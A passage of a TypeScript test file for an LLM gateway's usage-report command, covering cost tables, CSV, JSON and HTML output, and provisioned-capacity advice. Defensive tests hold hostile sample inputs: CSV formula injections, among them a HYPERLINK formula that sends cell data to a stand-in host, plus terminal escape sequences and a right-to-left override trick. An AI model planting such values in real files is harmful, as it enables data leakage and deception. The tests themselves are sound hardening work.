import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../cli/main.js';
import { terminalWidth } from '../../cli/command.js';
import { resolveConfig } from '../../config/load.js';
import { makeUsage } from '../../core/types.js';
import { toGatewayError, type GatewayError } from '../../core/errors.js';
import { silentLogger } from '../../core/logger.js';
import { openAIErrorBody } from '../../ingress/openai-chat/errors.js';
import { createUsageRoute } from '../../http/usage-route.js';
import { NOBODY, type Caller } from '../../http/auth.js';
import type { RouteContext } from '../../http/route.js';
import { toUsageEvent, type UsageEvent } from '../event.js';
import { openPostgres } from '../store/postgres-driver.js';
import { openSqlite } from '../store/sqlite-driver.js';
import { SqlLedgerStore } from '../store/sql-store.js';
import { attempt, fallbackEvents } from '../testing/fixtures.js';
import { advise, formatAdvice } from './advise.js';
import { dailyChartSvg } from './html.js';
import { emptyRow, formatTable } from './formats.js';
import type { UsageRow } from '../store/query.js';

const D = (day: string, h = 12) => Date.parse(`${day}T${String(h).padStart(2, '0')}:00:00Z`);

/** A small ledger with hand-checkable figures: 3 days, 2 providers, 2 keys, 1 unpriced attempt, 1 cache hit; `oai` has a quota. */
function fixture(): UsageEvent[] {
  const e = (id: string, day: string, provider: string, deployment: string, key: string, usd: number | undefined) =>
    toUsageEvent(attempt({ requestId: id, startedAt: D(day), provider, deployment, model: provider === 'bedrock' ? 'amazon.nova-pro-v1:0' : 'gpt-4o', tags: { key, team: key === 'alice' ? 'research' : 'ops' }, usage: makeUsage({ prompt: 100, completion: 10 }) }), { usd, priced: usd !== undefined });
  return [
    { ...e('a1', '2025-06-01', 'openai', 'oai', 'alice', 1.25), quotaHeadroom: 0.4 },
    e('a2', '2025-06-01', 'bedrock', 'br', 'bob', 0.5),
    { ...e('a3', '2025-06-02', 'openai', 'oai', 'alice', 2), quotaHeadroom: 0.15 },
    e('a4', '2025-06-03', 'bedrock', 'br', 'bob', 0.25),
    e('a5', '2025-06-03', 'bedrock', 'br', 'alice', 3),
    e('a6', '2025-06-03', 'openai', 'self', 'bob', undefined),
    // Answered from the response cache: costs nothing, saved what the answer would have cost.
    toUsageEvent(attempt({ requestId: 'a7', startedAt: D('2025-06-02'), provider: 'openai', deployment: 'oai', model: 'gpt-4o', tags: { key: 'alice', team: 'research' }, usage: makeUsage({ prompt: 100, completion: 10 }), cacheHit: true }), { usd: 0.75, priced: true }),
  ];
}

function io() {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, io: { out: (l: string) => out.push(l), err: (l: string) => err.push(l), env: {} } };
}

describe('switchyard report', () => {
  const dir = mkdtempSync(join(tmpdir(), 'report-'));
  const db = join(dir, 'ledger.sqlite');
  let store: SqlLedgerStore;
  beforeAll(async () => {
    store = await SqlLedgerStore.open(openSqlite(db));
    await store.insert(fixture());
  });
  afterAll(async () => store.close());

  const run = async (...args: string[]) => {
    const c = io();
    const code = await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-03', ...args], c.io);
    return { code, text: c.out.join('\n'), err: c.err.join('\n') };
  };

  it('prints a table grouped by provider with a TOTAL line and an unpriced note', async () => {
    const { code, text } = await run('--group-by', 'provider');
    expect(code).toBe(0);
    const lines = text.split('\n');
    expect(lines[0]).toBe('Usage 2025-06-01T00:00:00.000Z .. 2025-06-04T00:00:00.000Z');
    expect(lines[1]).toMatch(/^provider\s+requests\s+attempts\s+prompt\s+completion\s+cached\s+cost_usd\s+unpriced\s+failed$/);
    expect(lines[3]).toMatch(/^bedrock\s+3\s+3\s+300\s+30\s+0\s+3\.75\s+0\s+0$/);
    expect(lines[4]).toMatch(/^openai\s+4\s+4\s+400\s+40\s+0\s+3\.25\s+1\s+0$/);
    expect(lines[6]).toMatch(/^TOTAL\s+7\s+7\s+700\s+70\s+0\s+7\.00\s+1\s+0$/);
    expect(lines[7]).toBe('note: 1 attempts used models without a known price; their cost is not included.');
  });

  it('shows every column with --wide, and the lowest quota headroom each row saw (- without a quota)', async () => {
    const { text } = await run('--group-by', 'provider', '--wide');
    const lines = text.split('\n');
    expect(lines[1]).toMatch(/^provider\s+requests\s+attempts\s+prompt_tokens\s+completion_tokens\s+cached_read_tokens\s+cached_write_tokens\s+cached_write_1h_tokens\s+reasoning_tokens\s+cost_usd\s+cache_hits\s+saved_usd\s+unpriced_attempts\s+estimated_attempts\s+failed\s+min_quota_headroom$/);
    expect(lines[3]).toMatch(/^bedrock\s.*\s+-$/);
    expect(lines[4]).toMatch(/^openai\s.*\s+0\.15$/);
    expect(lines[6]).toMatch(/^TOTAL\s+7\s+7\s+700\s+70\s+0\s+0\s+0\s+0\s+7\.00\s+1\s+0\.75\s+1\s+0\s+0\s+0\.15$/);
  });

  it('fits its table to the width of the terminal its caller says it writes to, and to none when it says none (a pipe, a file)', async () => {
    const narrow = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-03', '--group-by', 'provider,model,deployment'], { ...narrow.io, terminalColumns: () => 90 })).toBe(0);
    // The table's lines; its notes are prose, which the terminal wraps.
    const table = (out: string[]) => out.join('\n').split('\n').filter((l) => !l.startsWith('note:'));
    expect(Math.max(...table(narrow.out).map((l) => l.length))).toBeLessThanOrEqual(90);
    const piped = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-03', '--group-by', 'provider,model,deployment'], piped.io)).toBe(0);
    expect(Math.max(...table(piped.out).map((l) => l.length))).toBeGreaterThan(90);
  });

  it('says "unpriced" for a row with no priced usage, not $0.00', async () => {
    const { text } = await run('--group-by', 'deployment');
    expect(text.split('\n').find((l) => l.startsWith('self '))).toMatch(/^self\s+1\s+1\s+100\s+10\s+0\s+unpriced\s+1\s+0$/);
  });

  it('fits a 120-column terminal without clipping a model id: each row\'s figures go on the line under it', () => {
    const long = (model: string, usd: number): UsageRow => ({ ...emptyRow(), keys: { provider: 'bedrock', model, deployment: `${model}-eu-central-1-provisioned` }, requests: 123456, promptTokens: 987654321, completionTokens: 12345678, costUsd: usd });
    const rows = [long('anthropic.claude-3-5-sonnet-20241022-v2:0', 1234.5), long('eu.anthropic.claude-3-7-sonnet-20250219-v1:0', 0.5)];
    const report = { from: 'a', to: 'b', groupBy: ['provider', 'model'], rows, total: { ...emptyRow(), requests: 246912, costUsd: 1235 } };
    const lines = formatTable(report, { width: 120 }).split('\n');
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThanOrEqual(120);
    expect(lines.slice(4, 6)).toEqual([expect.stringMatching(/^bedrock\s+anthropic\.claude-3-5-sonnet-20241022-v2:0$/), expect.stringMatching(/^\s+123456\s+0\s+987654321\s+12345678\s/)]);
    expect(Math.max(...formatTable(report, { wide: true, width: 120 }).split('\n').map((l) => l.length))).toBeGreaterThan(120);
  });

  it('refuses a --sqlite path with no ledger rather than create one and report no spend', async () => {
    const missing = join(mkdtempSync(join(tmpdir(), 'report-missing-')), 'ledgr.sqlite');
    const c = io();
    expect(await main(['report', '--sqlite', missing], c.io)).toBe(1);
    expect(c.err).toEqual([`switchyard report: no ledger at ${missing}: the file does not exist`]);
    expect(existsSync(missing)).toBe(false);
  });

  it('names a --sqlite path that is a directory or not a SQLite file, and what is wrong with it: exit 1, no stack', async () => {
    const notLedger = join(dir, 'notes.txt');
    writeFileSync(notLedger, 'hello\n');
    for (const [path, message] of [
      [dir, `no ledger at ${dir}: it is a directory, not a SQLite file`],
      [notLedger, `cannot open the ledger at ${notLedger}: file is not a database`],
      [join(notLedger, 'ledger.sqlite'), `no ledger at ${join(notLedger, 'ledger.sqlite')}: a part of its path is a file, not a directory`],
    ]) {
      const c = io();
      expect(await main(['report', '--sqlite', path as string], c.io), path).toBe(1);
      expect(c.err).toEqual([`switchyard report: ${message}`]);
    }
  });

  it('refuses a config whose SQLite ledger is not there yet rather than create it as a side effect of reading', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'report-unwritten-'));
    const config = join(cwd, 'switchyard.yaml');
    const ledger = join(cwd, 'data', 'ledger.sqlite');
    writeFileSync(config, `ledger: { store: sqlite, path: ${ledger} }\ndeployments: [{ id: a, provider: openai-compatible, model: m }]\n`);
    const c = io();
    expect(await main(['report', '-c', config], { ...c.io, cwd })).toBe(1);
    expect(c.err).toEqual([`switchyard report: no ledger at ${ledger} (ledger.path of ${config}): the file does not exist`]);
    expect(existsSync(join(cwd, 'data'))).toBe(false);
  });

  it('reads a config\'s relative ledger.path from the working directory, as serve does, and names the absolute path: in the refusal, and on stderr before a report that stdout carries alone', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'report-relative-'));
    const config = join(mkdtempSync(join(tmpdir(), 'report-config-')), 'gateway.yaml');
    const ledger = join(cwd, 'data', 'ledger.sqlite');
    writeFileSync(config, `ledger: { store: sqlite, path: data/ledger.sqlite }\ndeployments: [{ id: a, provider: openai-compatible, model: m }]\n`);
    const missing = io();
    expect(await main(['report', '-c', config], { ...missing.io, cwd })).toBe(1);
    expect(missing.err).toEqual([`switchyard report: no ledger at ${ledger} (ledger.path of ${config}, relative to the working directory): the file does not exist`]);
    mkdirSync(join(cwd, 'data'));
    const written = await SqlLedgerStore.open(openSqlite(ledger));
    await written.insert(fixture());
    await written.close();
    const c = io();
    expect(await main(['report', '-c', config, '--from', '2025-06-01', '--to', '2025-06-03', '--format', 'csv'], { ...c.io, cwd })).toBe(0);
    expect(c.err).toEqual([`reading ${ledger}`]);
    expect(c.out.join('\n').split('\r\n')).toEqual([expect.stringMatching(/^provider,model,requests,attempts,/), expect.stringMatching(/^bedrock,/), expect.stringMatching(/^openai,/), expect.stringMatching(/^TOTAL,,7,7,/)]);
  });

  it('reads the ledger of ./switchyard.yaml, else the demo\'s ledger, when no source is named', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'report-cwd-'));
    const c = io();
    expect(await main(['report'], { ...c.io, cwd })).toBe(2);
    expect(c.err[0]).toMatch(/^switchyard report: no ledger found: no switchyard\.yaml and no \.switchyard\/demo-ledger\.sqlite here/);
    mkdirSync(join(cwd, '.switchyard'));
    const demoLedger = await SqlLedgerStore.open(openSqlite(join(cwd, '.switchyard', 'demo-ledger.sqlite')));
    await demoLedger.insert(fixture());
    await demoLedger.close();
    const demo = io();
    expect(await main(['report', '--from', '2025-06-01', '--to', '2025-06-03'], { ...demo.io, cwd })).toBe(0);
    expect(demo.err[0]).toBe(`reading the demo's ledger ${join(cwd, '.switchyard', 'demo-ledger.sqlite')}`);
    expect(demo.out.join('\n')).toMatch(/TOTAL\s+\s+7\s/);
    writeFileSync(join(cwd, 'switchyard.yaml'), `ledger: { store: sqlite, path: ${join(cwd, 'other.sqlite')} }\ndeployments: [{ id: a, provider: openai-compatible, model: m }]\n`);
    await (await SqlLedgerStore.open(openSqlite(join(cwd, 'other.sqlite')))).close();
    const configured = io();
    expect(await main(['report'], { ...configured.io, cwd })).toBe(0);
    expect(configured.err[0]).toBe(`reading the ledger of ${join(cwd, 'switchyard.yaml')}`);
    expect(configured.out.join('\n')).toMatch(/TOTAL\s+0\s/);
  });

  it('shows progress on a terminal and clears it before printing', async () => {
    const statuses: string[] = [];
    const c = io();
    expect(await main(['report', '--sqlite', db, '--format', 'html', '--out', join(dir, 'progress.html')], { ...c.io, progress: (s) => statuses.push(s) })).toBe(0);
    expect(statuses).toEqual(['summarizing usage by provider, model (1/2)...', 'daily costs and top spenders (2/2)...', '']);
  });

  it('writes CSV grouped by day and key, amounts exact, then a TOTAL row', async () => {
    const { code, text } = await run('--group-by', 'day,key', '--format', 'csv');
    expect(code).toBe(0);
    expect(text.split('\r\n')).toEqual([
      'day,key,requests,attempts,prompt_tokens,completion_tokens,cached_read_tokens,cached_write_tokens,cached_write_1h_tokens,reasoning_tokens,cost_usd,cache_hits,saved_usd,unpriced_attempts,estimated_attempts,errors',
      '2025-06-03,alice,1,1,100,10,0,0,0,0,3,0,0,0,0,0',
      '2025-06-02,alice,2,2,200,20,0,0,0,0,2,1,0.75,0,0,0',
      '2025-06-01,alice,1,1,100,10,0,0,0,0,1.25,0,0,0,0,0',
      '2025-06-01,bob,1,1,100,10,0,0,0,0,0.5,0,0,0,0,0',
      '2025-06-03,bob,2,2,200,20,0,0,0,0,0.25,0,0,1,0,0',
      'TOTAL,,7,7,700,70,0,0,0,0,7,1,0.75,1,0,0',
    ]);
  });

  it('answers JSON with rows and a total, and honours the date range', async () => {
    const { text } = await run('--group-by', 'team', '--format', 'json', '--to', '2025-06-01');
    const json = JSON.parse(text) as { total: { costUsd: number }; data: Array<{ keys: { team: string }; costUsd: number }> };
    expect(json.total.costUsd).toBe(1.75);
    expect(json.data.map((r) => [r.keys.team, r.costUsd])).toEqual([
      ['research', 1.25],
      ['ops', 0.5],
    ]);
  });

  it('rejects an unknown group-by with the valid list, and a bad date or format, as usage errors (exit 2)', async () => {
    const { code, err } = await run('--group-by', 'color');
    expect(code).toBe(2);
    expect(err).toContain('unknown group-by "color"; expected provider, model');
    expect(err).toContain('usage: switchyard report');
    expect((await run('--from', 'yesterday')).code).toBe(2);
    for (const date of ['2025-02-30', '5', 'June 1']) {
      const refused = await run('--from', date);
      expect(refused.code, date).toBe(2);
      expect(refused.err, date).toContain(`invalid date "${date}"`);
    }
    expect((await run('--format', 'xml')).code).toBe(2);
  });

  it('writes a self-contained HTML page with a daily chart per provider and the top spenders', async () => {
    const file = join(dir, 'report.html');
    const { code } = await run('--format', 'html', '--out', file);
    expect(code).toBe(0);
    const html = readFileSync(file, 'utf8');
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).not.toMatch(/<script|<link|src="http|href="http/);
    const svg = /<svg id="daily-cost-chart"[^>]*>([\s\S]*?)<\/svg>/.exec(html)?.[1] ?? '';
    const bars = [...svg.matchAll(/<rect class="bar" data-day="([^"]+)" data-provider="([^"]+)"/g)].map((m) => `${m[1]}/${m[2]}`);
    expect(bars).toEqual(['2025-06-01/bedrock', '2025-06-01/openai', '2025-06-02/openai', '2025-06-03/bedrock']);
    expect(svg).toContain('<title>2025-06-03 bedrock: $3.25</title>');
    // The tallest day is $3.25: the axis goes up in round dollars.
    expect([...svg.matchAll(/text-anchor="end" font-size="11">([^<]+)</g)].map((m) => m[1])).toEqual(['$0.00', '$1.00', '$2.00', '$3.00', '$4.00']);
    const topKeys = /<table id="top-keys">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
    expect([...topKeys.matchAll(/<tr><td>([^<]+)<\/td>.*?<td>(\$[^<]+)<\/td><\/tr>/g)].map((m) => `${m[1]} ${m[2]}`)).toEqual(['alice $6.25', 'bob $0.75']);
    expect(html).toContain('id="unpriced"');
  });
});

describe('switchyard report totals', () => {
  const dir = mkdtempSync(join(tmpdir(), 'report-fallback-'));
  const db = join(dir, 'ledger.sqlite');
  beforeAll(async () => {
    const store = await SqlLedgerStore.open(openSqlite(db));
    await store.insert(fallbackEvents(D('2025-06-01')));
    await store.close();
  });

  const run = async (...args: string[]) => {
    const c = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-01', '--group-by', 'deployment', ...args], c.io)).toBe(0);
    return c.out.join('\n');
  };

  // 3 client requests, 2 of which fell back from deployment a to b: a row of each, counted once in all.
  it('counts a request that spans rows once in the TOTAL line', async () => {
    const lines = (await run()).split('\n');
    expect(lines[3]).toMatch(/^b\s+2\s/);
    expect(lines[4]).toMatch(/^a\s+3\s/);
    expect(lines[6]).toMatch(/^TOTAL\s+3\s+5\s+5000\s+500\s/);
    expect(lines[7]).toBe("note: the rows' requests add up to 5, TOTAL counts 3: a request whose attempts fall into several rows");
  });

  it('tells attempts and failed attempts from requests: 3 requests all answered, 5 attempts of which 2 failed', async () => {
    const lines = (await run('--group-by', 'deployment,role,status')).split('\n');
    expect(lines[1]).toMatch(/^deployment\s+role\s+status\s+requests\s+attempts\s.*\sfailed$/);
    const row = (...keys: string[]) => lines.find((l) => l.split(/\s+/).slice(0, keys.length).join(' ') === keys.join(' '))?.split(/\s+/);
    expect([row('a', 'primary', 'ok'), row('a', 'primary', 'error'), row('b', 'fallback', 'ok')].map((r) => [r?.[3], r?.[4], r?.at(-1)])).toEqual([['1', '1', '0'], ['2', '2', '2'], ['2', '2', '0']]);
    expect(row('TOTAL')?.slice(0, 3)).toEqual(['TOTAL', '3', '5']);
    expect(row('TOTAL')?.at(-1)).toBe('2');
    expect(lines.slice(-2)).toEqual([
      "note: the rows' requests add up to 5, TOTAL counts 3: a request whose attempts fall into several rows",
      '      (retries, fallbacks, shadow copies) counts once in each; attempts, tokens and cost add up to TOTAL.',
    ]);
  });

  it('counts it once in the JSON total and the HTML requests card', async () => {
    const json = JSON.parse(await run('--format', 'json')) as { total: { requests: number; attempts: number } };
    expect(json.total).toMatchObject({ requests: 3, attempts: 5 });
    const file = join(dir, 'report.html');
    await run('--format', 'html', '--out', file);
    expect(readFileSync(file, 'utf8')).toContain('<div class="card">Requests <strong>3</strong></div>');
  });

  it('counts it once in the total of GET /v1/switchyard/usage', async () => {
    const store = await SqlLedgerStore.open(openSqlite(db));
    const route = createUsageRoute(store, () => D('2025-06-01'));
    const ctx = { query: new URLSearchParams('from=2025-06-01&to=2025-06-01&group_by=deployment'), caller: { ...NOBODY, keyId: 'root', role: 'admin' } } as unknown as RouteContext;
    const body = JSON.parse((await route.handle(ctx)).body as string) as { data: Array<{ requests: number }>; total: { requests: number } };
    expect([body.data.map((r) => r.requests), body.total.requests]).toEqual([[2, 3], 3]);
    await store.close();
  });
});

describe('switchyard report --format csv with values whoever mints keys chose', () => {
  const dir = mkdtempSync(join(tmpdir(), 'report-csv-'));
  const db = join(dir, 'ledger.sqlite');
  const keys = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'a,b "c"\nd', 'plain-key'];
  beforeAll(async () => {
    const store = await SqlLedgerStore.open(openSqlite(db));
    // One request per key, the key's name also in a tag; the costs order the rows as `keys` lists them.
    await store.insert(keys.map((key, i) => toUsageEvent(attempt({ requestId: `csv-${i}`, startedAt: D('2025-06-01'), tags: { key, project: key } }), { usd: keys.length - i, priced: true })));
    await store.close();
  });

  it('starts a value a spreadsheet would run as a formula with a quote, and quotes commas, quotes and newlines', async () => {
    const c = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-01', '--group-by', 'key,tag:project', '--format', 'csv'], c.io)).toBe(0);
    const cellsOf = (line: string) => line.split(',1,1,')[0];
    const lines = c.out.join('\n').split('\r\n').slice(1);
    expect(lines.map(cellsOf)).toEqual([
      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")","'=HYPERLINK(""http://x.example/?""&A1,""open"")"`,
      "'+1+2,'+1+2",
      "'-2+3,'-2+3",
      `"'@SUM(1,1)","'@SUM(1,1)"`,
      "'\t=1+1,'\t=1+1",
      `"'\r=1+1","'\r=1+1"`,
      '"a,b ""c""\nd","a,b ""c""\nd"',
      'plain-key,plain-key',
      // Ours: never quoted.
      'TOTAL,,8,8,8000,800,0,0,0,0,36,0,0,0,0,0',
    ]);
  });
});

describe('switchyard report to a pipe or a file: never clipped', () => {
  const MODELS = ['us.anthropic.claude-3-5-sonnet-20241022-v2:0', 'us.anthropic.claude-3-5-sonnet-20240620-v1:0', 'anthropic.claude-3-5-sonnet-20241022-v2:0'];
  const deployment = (model: string): string => `bedrock-${model.replace(/[.:]/g, '-')}-provisioned`;
  const db = join(mkdtempSync(join(tmpdir(), 'report-pipe-')), 'ledger.sqlite');
  beforeAll(async () => {
    const store = await SqlLedgerStore.open(openSqlite(db));
    await store.insert(MODELS.map((model, i) => toUsageEvent(attempt({ requestId: `p${i}`, startedAt: D('2025-06-02'), provider: 'bedrock', deployment: deployment(model), model, usage: makeUsage({ prompt: 987654321, completion: 12345678 }) }), { usd: 1234.5, priced: true })));
    await store.close();
  });

  it('shows each Bedrock id and deployment whole, one line a row, when stdout is not a terminal (as under a test runner)', async () => {
    const c = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-03', '--group-by', 'provider,model,deployment'], c.io)).toBe(0);
    const lines = c.out.join('\n').split('\n');
    for (const model of MODELS) {
      const escaped = (t: string): string => t.replace(/[.:]/g, '\\$&');
      expect(lines.filter((l) => l.split(/\s+/)[1] === model), model).toEqual([expect.stringMatching(new RegExp(`^bedrock\\s+${escaped(model)}\\s+${escaped(deployment(model))}\\s+1\\s+1\\s+987654321\\s+12345678\\s`))]);
    }
  });

  it('fits the table to a terminal\'s own width (120 when it tells none) and to no width for a pipe or a file', () => {
    expect(terminalWidth({ isTTY: true, columns: 87 })).toBe(87);
    expect(terminalWidth({ isTTY: true, columns: 0 })).toBe(120);
    expect(terminalWidth({ isTTY: true })).toBe(120);
    expect(terminalWidth({ columns: 87 })).toBeUndefined();
  });
});

describe('switchyard report table with values whoever mints keys chose', () => {
  const row = (keys: Record<string, string>, requests: number): UsageRow => ({ ...emptyRow(), keys, requests });
  const report = (rows: UsageRow[]) => ({ from: 'a', to: 'b', groupBy: ['key', 'team', 'user', 'tag:project'], rows, total: { ...emptyRow(), requests: 3 } });

  it('writes control characters as escapes, so no value recolours the terminal, moves its cursor or forges a row', () => {
    const rows = [
      row({ key: 'a600618dd679', team: '<img src=x>', user: 'ana\u009b2J', 'tag:project': '\u001b[31mRED\u001b[0m\nforged line  9  9' }, 2),
      row({ key: 'b600618dd679', team: 'ops\r', user: 'bo\u007f\t', 'tag:project': 'gpj.\u202eexe\u2066\u0000' }, 1),
    ];
    const wide = formatTable(report(rows), { wide: true });
    // 130 columns: a row fits on one line once the tag is clipped.
    const compact = formatTable(report(rows), { width: 130 });
    for (const text of [wide, compact]) {
      // eslint-disable-next-line no-control-regex -- no control character but the line feeds between rows
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2066]/);
      // Title, head, rule, two rows, rule, total: nothing added by a line feed.
      expect(text.split('\n')).toHaveLength(7);
    }
    const lines = wide.split('\n');
    expect(lines[3]).toMatch(/^a600618dd679 {2}<img src=x> {2}ana\\x9b2J\s+\\x1b\[31mRED\\x1b\[0m\\nforged line {2}9 {2}9\s+2\s/);
    expect(lines[4]).toMatch(/^b600618dd679 {2}ops\\r\s+bo\\x7f\\t\s+gpj\.\\u202eexe\\u2066\\x00\s+1\s/);
    // The escapes count in the widths: the request counts still line up.
    expect(lines[3]?.indexOf(' 2 ')).toBe(lines[4]?.indexOf(' 1 '));
    // Clipped to fit, an escape is cut as text, never back into the byte it stands for.
    expect(compact.split('\n')[3]).toMatch(/^a600618dd679 {2}<img src=x> {2}ana\\x9b2J\s+\\x1b\[31mRED\S*~\s+2\s/);
  });

  it('keeps printable text of any script as it is', () => {
    const text = formatTable(report([row({ key: 'k', team: 'café', user: '東京', 'tag:project': 'x=\\n' }, 1)]), { wide: true });
    expect(text.split('\n')[3]).toMatch(/^k\s+café\s+東京\s+x=\\n\s+1/);
  });
});

describe('switchyard report --format csv with a formula behind whitespace, a line break or a full-width sign', () => {
  const dir = mkdtempSync(join(tmpdir(), 'report-csv-ws-'));
  const db = join(dir, 'ledger.sqlite');
  const keys = [' =1+1', '\n=2+2', '\u3000@SUM(1,1)', '\u0000x', '＝1+1', '＋1', '－1', '＠SUM(1)', '\u0001-1', ' plain', 'a=b', 'x-@'];
  beforeAll(async () => {
    const store = await SqlLedgerStore.open(openSqlite(db));
    await store.insert(keys.map((key, i) => toUsageEvent(attempt({ requestId: `csv-ws-${i}`, startedAt: D('2025-06-01'), tags: { key } }), { usd: keys.length - i, priced: true })));
    await store.close();
  });

  it("starts with a quote a value whose first character after whitespace is = + - @ or its full-width form, or that starts with LF or NUL; leaves the rest alone", async () => {
    const c = io();
    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-01', '--group-by', 'key', '--format', 'csv'], c.io)).toBe(0);
    // Each row: the key's cell, then 1 request and 1 attempt.
    const lines = c.out.join('\n').split('\r\n').slice(1).filter((l) => l !== '' && !l.startsWith('TOTAL,'));
    expect(lines.map((l) => l.slice(0, l.lastIndexOf(',1,1,')))).toEqual([
      "' =1+1",
      '"\'\n=2+2"',
      '"\'\u3000@SUM(1,1)"',
      "'\u0000x",
      "'＝1+1",
      "'＋1",
      "'－1",
      "'＠SUM(1)",
      "'\u0001-1",
      ' plain',
      'a=b',
      'x-@',
    ]);
  });
});

describe('report --advise', () => {
  const ptuConfig = (monthly: number) =>
    resolveConfig({
      deployments: [
        { id: 'on-demand', provider: 'openai-compatible', model: 'gpt-4o', endpoint: 'http://127.0.0.1:9/v1' },
        { id: 'ptu', provider: 'openai-compatible', model: 'gpt-4o', endpoint: 'http://127.0.0.1:9/v1', provisioned: { monthly_usd: monthly, capacity_rpm: 100 } },
      ],
      // The provisioned deployment's tokens are prepaid: the ledger costs them at nothing.
      pricing: { deployments: { 'on-demand': { input: 2.5, output: 10 }, ptu: { input: 0, output: 0 } } },
    });
  const served = (id: string, day: string, prompt: number, completion: number) =>
    toUsageEvent(attempt({ requestId: id, startedAt: D(day), deployment: 'ptu', model: 'gpt-4o', usage: makeUsage({ prompt, completion }) }), { usd: 0, priced: true });
  const spilled = (id: string, day: string, usd: number) => toUsageEvent(attempt({ requestId: id, startedAt: D(day), deployment: 'on-demand', model: 'gpt-4o' }), { usd, priced: true });

  it('prices what the provisioned deployment served at its peer’s on-demand prices, adds the spill-over, and projects from the days with data', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    // June has 30 days; the ledger has 10 of them. Each day the PTU serves 2.4M prompt + 0.6M completion
    // tokens ($6 + $6 = $12 at on-demand's $2.50/$10 per million) and $5 spills over, $25 on two days.
    const events = Array.from({ length: 10 }, (_, i) => {
      const day = `2025-06-${String(i + 1).padStart(2, '0')}`;
      return [served(`p${i}`, day, 2_400_000, 600_000), spilled(`s${i}`, day, i === 3 || i === 7 ? 25 : 5)];
    }).flat();
    await store.insert(events);
    const [a] = await advise(store, ptuConfig(608.75), Date.parse('2025-06-01'), Date.parse('2025-07-01'));
    await store.close();
    // Break-even 608.75 / 30.4375 = $20/day; (10 x 12 + 8 x 5 + 2 x 25) / 10 days x 30.4375 = 639.1875.
    expect(a).toMatchObject({ deployment: 'ptu', peers: ['on-demand'], daysWithData: 10, rangeDays: 30, onDemandUsd: 90, servedOnProvisionedUsd: 120, servedPricedAs: 'on-demand', breakEvenDailyUsd: 20, daysOverBreakEven: ['2025-06-04', '2025-06-08'], verdict: 'above-break-even' });
    expect(a?.projectedMonthlyUsd).toBe(639.1875);
    expect(a?.overBreakEvenUsd).toBe(30.4375);
    const text = formatAdvice([a!]);
    expect(text).toContain("Served on the provisioned deployment: $120.00 at on-demand's on-demand prices.");
    expect(text).toContain('Together $210.00 over the 10 days with data (of 30 in the range), projected $639.19/month on demand.');
    expect(text).toContain('Above break-even by $30.44/month (5%): provisioned capacity is cheaper for this traffic.');
  });

  it('keeps small amounts and shares visible instead of rounding them to $0.00 (0%)', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    // One day: 2,000 prompt tokens served ($0.005) and $0.01 spilled: $0.015 x 30.4375 = $0.4565625/month.
    await store.insert([served('p', '2025-06-02', 2_000, 0), spilled('s', '2025-06-02', 0.01)]);
    const [a] = await advise(store, ptuConfig(0.46), Date.parse('2025-06-01'), Date.parse('2025-06-08'));
    await store.close();
    expect(a).toMatchObject({ servedOnProvisionedUsd: 0.005, onDemandUsd: 0.01, daysWithData: 1, rangeDays: 7, verdict: 'below-break-even' });
    expect(a?.overBreakEvenUsd).toBeCloseTo(-0.0034375, 10);
    expect(formatAdvice([a!])).toContain('Below break-even by $0.003438/month (0.75%): on-demand is cheaper.');
  });

  it('prices one-hour cache writes the provisioned deployment served at the peer\'s one-hour rate, not the five-minute one', async () => {
    const config = resolveConfig({
      deployments: [
        { id: 'on-demand', provider: 'openai-compatible', model: 'gpt-4o', endpoint: 'http://127.0.0.1:9/v1' },
        { id: 'ptu', provider: 'openai-compatible', model: 'gpt-4o', endpoint: 'http://127.0.0.1:9/v1', provisioned: { monthly_usd: 100, capacity_rpm: 100 } },
      ],
      pricing: { deployments: { 'on-demand': { input: 2, output: 10, cache_write: 2.5, cache_write_1h: 4 }, ptu: { input: 0, output: 0 } } },
    });
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    // 1M prompt tokens all written to the cache, 600k of them for an hour: 0.4 x $2.50 + 0.6 x $4 = $3.40.
    await store.insert([toUsageEvent(attempt({ requestId: 'w', startedAt: D('2025-06-02'), deployment: 'ptu', model: 'gpt-4o', usage: makeUsage({ prompt: 1_000_000, cachedWrite: 1_000_000, cachedWrite1h: 600_000 }) }), { usd: 0, priced: true })]);
    const [a] = await advise(store, config, Date.parse('2025-06-01'), Date.parse('2025-06-08'));
    await store.close();
    expect(a?.servedOnProvisionedUsd).toBeCloseTo(3.4, 10);
  });

  it('leaves out cache hits: they made no upstream call, so used no provisioned capacity and would cost nothing on demand', async () => {
    const store = await SqlLedgerStore.open(openSqlite(':memory:'));
    // One real request ($0.35 on demand: 100k prompt, 10k completion at $2.50/$10), then 99 hits of its answer.
    const hits = Array.from({ length: 99 }, (_, i) =>
      toUsageEvent(attempt({ requestId: `hit${i}`, startedAt: D('2025-06-02'), deployment: 'ptu', model: 'gpt-4o', cacheHit: true, usage: makeUsage({ prompt: 100_000, completion: 10_000 }) }), { usd: 0, priced: true }),
    );
    await store.insert([served('p', '2025-06-02', 100_000, 10_000), ...hits]);
    const [a] = await advise(store, ptuConfig(1_000), Date.parse('2025-06-01'), Date.parse('2025-06-08'));
    await store.close();
